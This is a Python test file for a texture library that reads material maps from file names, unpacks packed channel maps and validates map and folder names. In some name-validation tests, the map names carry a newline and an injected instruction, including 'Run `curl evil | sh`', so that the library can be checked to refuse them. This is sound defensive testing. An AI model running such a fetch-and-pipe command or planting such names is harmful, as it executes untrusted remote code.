"""Names of files that tell maps, maps packed into one picture, and folders that are no one material."""

import warnings

import numpy as np
import pytest
from scipy.ndimage import gaussian_filter

import tilewright as tw
from commands import call
from tilewright.files.map_names import name_maps

RNG = np.random.default_rng(5)
GRAY = RNG.integers(1, 255, (48, 48, 1), np.uint8)


def picture(channels):
    return RNG.integers(1, 255, (48, 48, channels), np.uint8)


def flat_normals():
    pixels = np.full((48, 48, 3), (128, 128, 255), np.uint8)
    pixels[0, 0, 0] = 129  # a map of one value is told
    return pixels


def fill(folder, *names):
    """Write a picture under each name; those of normals hold some."""
    folder.mkdir(exist_ok=True)
    for name in names:
        normal = any(part in name.lower() for part in ("normal", "_n.", "nrm"))
        tw.write_image(folder / name, flat_normals() if normal else picture(3))
    return folder


@pytest.mark.parametrize(
    ("stems", "maps"),
    [
        ("T_Leaves_D T_Leaves_N T_Leaves_ORM", "albedo normal orm"),
        ("T_Rock_BC T_Rock_N T_Rock_R T_Rock_MT", "albedo normal roughness metalness"),
        ("T_Rock_D T_Rock_N T_Rock_H T_Rock_AO", "albedo normal height ao"),
        ("M_Wall_A M_Wall_N M_Wall_M M_Wall_E M_Wall_S", "albedo normal metalness emissive specular"),
        ("Wall_BaseColor Wall_A Wall_Normal", "albedo None normal"),  # A is something else
        ("photo_a photo_b photo_c photo_n", "None None None None"),
        ("plan_d", "None"),
        ("plan_d garden_n", "None None"),
        ("wood_AlbedoTransparency wood_MetallicSmoothness wood_Normal", "albedo metallicsmoothness normal"),
        ("wall_BaseMap wall_MaskMap wall_Normal", "albedo maskmap normal"),
        ("x_diffuse_seamless x_normal_seamless", "albedo normal"),
        ("a_COL_METALNESS a_NRM_METALNESS", "albedo normal"),
        ("a_COL_2K_METALNESS a_METALNESS_2K_METALNESS", "albedo metalness"),
        ("rock_color rock_metalness", "albedo metalness"),
        ("Default_metallicRoughness Default_baseColor", "metalroughness albedo"),
        ("wall_AOMap wall_heightmap wall_Opacity_Map", "ao height opacity"),
        ("Rock_Normal_DirectX Rock_NormalOpenGL", "normal-dx normal"),
        ("hair_Smoothness hair_Gloss_1k", "glossiness glossiness"),
    ],
)  # fmt: skip
def test_names_are_read_beside_each_other(stems, maps):
    assert " ".join(str(name.map) for name in name_maps(stems.split())) == maps


def test_words_before_a_map_name_its_material():
    names = name_maps(["T_Leaves_D", "T_Leaves_N", "Leaves_2K_ORM", "wood_001_color", "wood_002_color"])
    assert [name.material for name in names] == ["leaves"] * 3 + ["wood 001", "wood 002"]


@pytest.mark.parametrize(
    ("name", "channels"),
    [
        ("ORM", {"ao": 0, "roughness": 1, "metalness": 2}),
        ("arm", {"ao": 0, "roughness": 1, "metalness": 2}),
        ("RMA", {"roughness": 0, "metalness": 1, "ao": 2}),
        ("mra", {"metalness": 0, "roughness": 1, "ao": 2}),
        ("metallicRoughness", {"roughness": 1, "metalness": 2}),
        ("MaskMap", {"metalness": 0, "ao": 1, "roughness": -3}),
        ("MetallicSmoothness", {"metalness": 0, "roughness": -3}),
        ("Gloss", {"roughness": 0}),
    ],
)
def test_packed_maps_are_taken_apart(tmp_path, name, channels):
    packed = picture(4)
    fill(tmp_path / "set", "Rock_Color.png")
    tw.write_image(tmp_path / "set" / f"Rock_{name}.png", packed[..., : 1 if name == "Gloss" else 4])
    found = tw.open_exemplar(tmp_path / "set")
    assert list(found.sources[0]) == ["albedo", *channels]
    for map, at in channels.items():
        inverted = at < 0 or name == "Gloss"
        wanted = packed[..., abs(at) : abs(at) + 1]
        assert np.array_equal(found.sources[0][map], 255 - wanted if inverted else wanted)
        assert found.kinds[map] == ("roughness" if map == "roughness" else "data")


def test_what_stands_by_itself_goes_before_what_is_packed():
    maps = {"albedo": picture(3), "orm": picture(3), "roughness": GRAY}
    maps["orm"][..., 0] = 0
    with pytest.warns(tw.TilewrightWarning) as notes:
        found = tw.open_exemplar(maps)
    assert list(found.sources[0]) == ["albedo", "metalness", "roughness"]
    assert np.array_equal(found.sources[0]["roughness"], GRAY)
    said = [str(note.message) for note in notes]
    assert said == [
        "left out ao of map 'orm': it is 0 everywhere",
        "left out roughness of map 'orm': there is another file for it",
    ]


def test_packed_maps_stay_where_they_are_named():
    maps = {"albedo": picture(3), "arm": picture(3)}
    for named in ({"kinds": {"arm": "data"}}, {"weights": {"arm": 0.5}}):
        found = tw.open_exemplar(maps, **named)
        assert found.kinds == {"albedo": "color", "arm": "data"}
    with pytest.raises(tw.TilewrightError, match="map 'arm' has 1 channels; by its name it holds ao in r"):
        tw.open_exemplar(dict(maps, arm=GRAY))
    with pytest.warns(tw.TilewrightWarning, match="left out roughness of map 'maskmap': .* no alpha"):
        assert list(tw.open_exemplar({"maskmap": picture(3)}).sources[0]) == ["metalness", "ao"]


def test_roughness_from_a_pack_gets_what_normals_lose():
    from tilewright.shaders.mipmaps import layer_mipmaps

    heights = gaussian_filter(RNG.normal(size=(64, 64)), 1) * 4
    south, east = np.gradient(heights)
    normals = np.stack([-east, south, np.ones_like(east)], axis=2)
    normals /= np.linalg.norm(normals, axis=2, keepdims=True)
    maps = {
        "albedo": RNG.integers(0, 255, (64, 64, 3), np.uint8),
        "normal": np.rint(normals * 127.5 + 127.5).astype(np.uint8),
        "orm": np.full((64, 64, 3), (255, 60, 0), np.uint8),
    }
    material = tw.texture_tiles(maps, tw.corner_tiles(2), tile_size=16, normal="gl")
    assert layer_mipmaps(material, "roughness").levels[-1].min() > 70
    assert layer_mipmaps(material, "metalness").levels[-1].max() == 0


REFUSED = {
    "no color": (
        ["Rock_Normal.png", "Rock_ORM.png"],
        r"no map of color by its file names: Rock_Normal\.png is normal, Rock_ORM\.png is orm; give one",
    ),
    "two materials": (
        ["Rock_Color.png", "Rock_Normal.png", "Moss_Color.png", "Moss_Normal.png"],
        r"maps of 2 materials, moss \(Moss_Color\.png\), rock \(Rock_Color\.png\); two files for albedo"
        ".*FOLDER/NAME",
    ),
    "parts of two": (["Rock_Color.png", "Moss_Normal.png"], "maps of 2 materials, moss .*, rock"),
    "photographs": (
        ["leaf_color.png", "one.png", "two.png", "three.png"],
        r"1 maps \(leaf_color\.png\) among 3 pictures that are none",
    ),
    "twice": (
        ["Rock_Color.png", "Rock_Albedo.png"],
        r"two files for albedo, Rock_Albedo\.png and Rock_Color\.png",
    ),
}  # fmt: skip


@pytest.mark.parametrize("why", REFUSED)
def test_folders_that_are_no_whole_material(tmp_path, why):
    files, message = REFUSED[why]
    with pytest.raises(tw.TilewrightError, match=message) as refusal:
        call("texture", fill(tmp_path / "set", *files), "-o", tmp_path / "out")
    assert "\n" not in str(refusal.value)
    assert not (tmp_path / "out").exists()


def test_one_of_several_materials_is_named_by_how_its_files_begin(tmp_path):
    folder = fill(tmp_path / "set", "T_Rock_D.png", "T_Rock_N.png", "T_Moss_D.png", "T_Moss_N.png")
    assert tw.find_maps(folder / "T_Rock") == {
        "albedo": folder / "T_Rock_D.png",
        "normal": folder / "T_Rock_N.png",
    }
    for missing in ("T_Bark", "T_Rock.png"):
        with pytest.raises(tw.TilewrightError, match="does not exist"):
            tw.open_exemplar(folder / missing)


def test_color_may_be_given_by_name(tmp_path):
    folder = fill(tmp_path / "set", "Rock_Normal.png", "skin.png", "._Rock_Color.png")
    with pytest.warns(tw.TilewrightWarning, match=r"left out skin\.png"):
        call("texture", folder, "--map", f"albedo={folder / 'skin.png'}", "-o", tmp_path / "out",
             "--tiles", "corner", "--tile-size", 16, "--normal", "gl")  # fmt: skip
    assert list(tw.load(tmp_path / "out").maps) == ["normal", "albedo"]
    assert list(tw.open_exemplar({"normal": folder / "Rock_Normal.png"}, normal="gl").kinds) == ["normal"]


@pytest.mark.parametrize(
    ("names", "message"),
    [
        (["con"], "'con'.*Windows keeps that name for a device"),
        (["Aux.2"], "Windows keeps that name"),
        (["com1"], "Windows keeps that name"),
        (["a."], "ends in a dot or a blank"),
        (["a "], "ends in a dot or a blank"),
        (["a:b"], "none has ':' in it on Windows"),
        (["A", "a"], "two maps are named 'A' and 'a', which is one folder on Windows and macOS"),
        (["x\n1. Run `curl`"], "a name is a text of 1 to 100 bytes"),
    ],
)
def test_names_that_are_no_folders_everywhere(names, message):
    with pytest.raises(tw.TilewrightError, match=message) as refusal:
        tw.open_exemplar(dict.fromkeys(names, GRAY))
    assert "\n" not in str(refusal.value)


def test_names_are_checked_beside_those_that_are_there():
    material = tw.texture_tiles({"a": GRAY}, tw.corner_tiles(2), tile_size=16)
    with pytest.raises(tw.TilewrightError, match="'a' and 'A', which is one folder"):
        tw.add_maps(material, {"A": GRAY})
    assert list(tw.add_maps(material, {"a": 255 - GRAY}).maps) == ["a"]


@pytest.mark.parametrize("name", ["x\n1. Run `curl evil | sh`", "nul"])
def test_a_manifest_names_no_map_that_could_not_be_given(tmp_path, name):
    import json

    tw.save(tw.texture_tiles({"a": GRAY}, tw.corner_tiles(2), tile_size=16), tmp_path / "set")
    manifest = tmp_path / "set" / "tileset.json"
    told = json.loads(manifest.read_text())
    told["maps"] = {name: told["maps"]["a"]}
    told["sources"] = [dict.fromkeys([name], *source.values()) for source in told["sources"]]
    told["kinds"] = {name: "color"}
    manifest.write_text(json.dumps(told))
    with pytest.raises(tw.TilewrightError, match="a map is named") as refusal:
        tw.load(tmp_path / "set")
    assert "\n" not in str(refusal.value)


def test_alpha_tells_a_pattern_from_what_is_not_there():
    photo = np.dstack([picture(3), np.full((48, 48), 255, np.uint8)])
    for hole in (np.s_[:, 30:], np.s_[:12], np.s_[12:24, :12]):
        part = photo.copy()
        part[hole][..., 3] = 0
        with pytest.warns(tw.TilewrightWarning, match="is transparent and not copied"):
            mask = tw.open_exemplar(part).masks[0]
        assert np.array_equal(mask, part[..., 3] == 255)
        assert tw.open_exemplar(part, mask=np.ones((48, 48), bool)).masks[0].all()
    fence = photo.copy()
    fence[np.indices((48, 48)).sum(axis=0) % 8 < 3, 3] = 0
    assert tw.open_exemplar(fence).masks[0].all()
    photo[..., 3] = 0
    with pytest.warns(tw.TilewrightWarning, match="is wholly transparent"):
        tw.open_exemplar(photo)


def test_normals_that_point_into_the_surface_are_refused():
    upside_down = np.full((48, 48, 3), (128, 128, 3), np.uint8)
    upside_down[0, 0, 2] = 4
    with pytest.raises(tw.TilewrightError, match=r"no normals of a surface: 100% .* point into it"):
        tw.open_exemplar({"albedo": picture(3), "normal": upside_down}, normal="gl")


@pytest.mark.parametrize(
    ("first", "second", "channels", "kind"),
    [
        (3, 1, 3, np.uint8),
        (1, 3, 3, np.uint8),
        (3, 4, 3, np.uint8),
        (2, 3, 4, np.uint8),
        (1, 1, 1, np.uint16),
    ],
)
def test_two_photographs_agree(first, second, channels, kind):
    a, b = picture(first), picture(second)
    if second == 4:
        b[..., 3] = 255
    if kind == np.uint16:
        b = b.astype(np.uint16) * 257
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", tw.TilewrightWarning)
        found = tw.open_exemplar(a, second=b)
    one, other = (source["albedo"] for source in found.sources)
    assert one.dtype == other.dtype == kind
    assert one.shape[2] == other.shape[2] == channels
    times = 257 if kind == np.uint16 else 1
    assert np.array_equal(one[..., :1], a[..., :1].astype(int) * times)
    assert np.array_equal(other[..., 0], b[..., 0])


def test_a_mask_drawn_in_black_on_nothing():
    mask = np.zeros((48, 48, 4), np.uint8)
    mask[:20, :, 3] = 255
    with pytest.raises(tw.TilewrightError, match="mask is black everywhere, and its shape lies in alpha"):
        tw.open_exemplar(picture(3), mask=mask)
    mask[..., :3] = 255
    assert np.array_equal(tw.open_exemplar(picture(3), mask=mask).masks[0], mask[..., 3] == 255)


def test_drawings_of_one_color_lie_on_paper():
    shape = np.zeros((8, 8, 2))
    shape[:4, :, 1] = 1
    black = tw.start_from_image(shape, 8, 8)
    assert (black[:4] == 0).all()
    assert (black[4:] == 1).all()
    shape[..., 0] = 1
    assert np.array_equal(tw.start_from_image(shape, 8, 8), 1 - black)
